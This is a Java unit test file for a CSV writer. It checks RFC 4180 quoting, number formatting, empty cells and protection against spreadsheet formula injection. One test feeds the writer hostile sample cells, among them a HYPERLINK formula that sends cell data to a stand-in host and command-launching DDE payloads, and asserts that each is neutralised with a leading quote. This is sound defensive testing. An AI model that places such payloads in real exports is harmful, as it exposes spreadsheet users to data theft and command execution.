package org.coproduce.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    @Test
    void writesAHeaderThenRowsTheRfc4180Way() {
        String csv = write(List.of("name", "note"), List.of("Jamie", "said \"yes\", then left"));

        assertThat(csv).isEqualTo("name,note\r\nJamie,\"said \"\"yes\"\", then left\"\r\n");
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaGetsAQuoteInFront() {
        List<CSVRecord> rows = read(write(List.of("a", "b", "c", "d", "e", "f"),
                List.of("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")", "@SUM(1+1)*cmd|calc", "+44 7700 900123",
                        "-2+3+cmd|' /C calc'!A0", "\tHidden", "\rHidden")));

        assertThat(rows.get(0).values()).containsExactly("'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Receipt\")", "'@SUM(1+1)*cmd|calc",
                "'+44 7700 900123", "'-2+3+cmd|' /C calc'!A0", "'\tHidden", "'\rHidden");
    }

    @Test
    void textThatIsNotAFormulaIsWrittenAsItIs() {
        List<CSVRecord> rows = read(write(List.of("a", "b", "c"), List.of("Bus fare = £3", "Taxi", "")));

        assertThat(rows.get(0).values()).containsExactly("Bus fare = £3", "Taxi", "");
    }

    @Test
    void numbersAreWrittenAsTheyAreEvenWhenNegative() {
        List<CSVRecord> rows = read(write(List.of("amount", "amount_pence", "count"),
                Arrays.asList(new BigDecimal("-37.50"), -3_750L, 0)));

        assertThat(rows.get(0).values()).containsExactly("-37.50", "-3750", "0");
    }

    @Test
    void aMissingValueIsAnEmptyCell() {
        assertThat(write(List.of("a", "b"), Arrays.asList("x", null))).endsWith("x,\r\n");
    }

    private static String write(List<String> columns, List<?> row) {
        StringWriter out = new StringWriter();
        try (CsvWriter csv = new CsvWriter(out, columns)) {
            csv.row(row);
        }
        return out.toString();
    }

    private static List<CSVRecord> read(String csv) {
        try {
            return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv)).getRecords();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
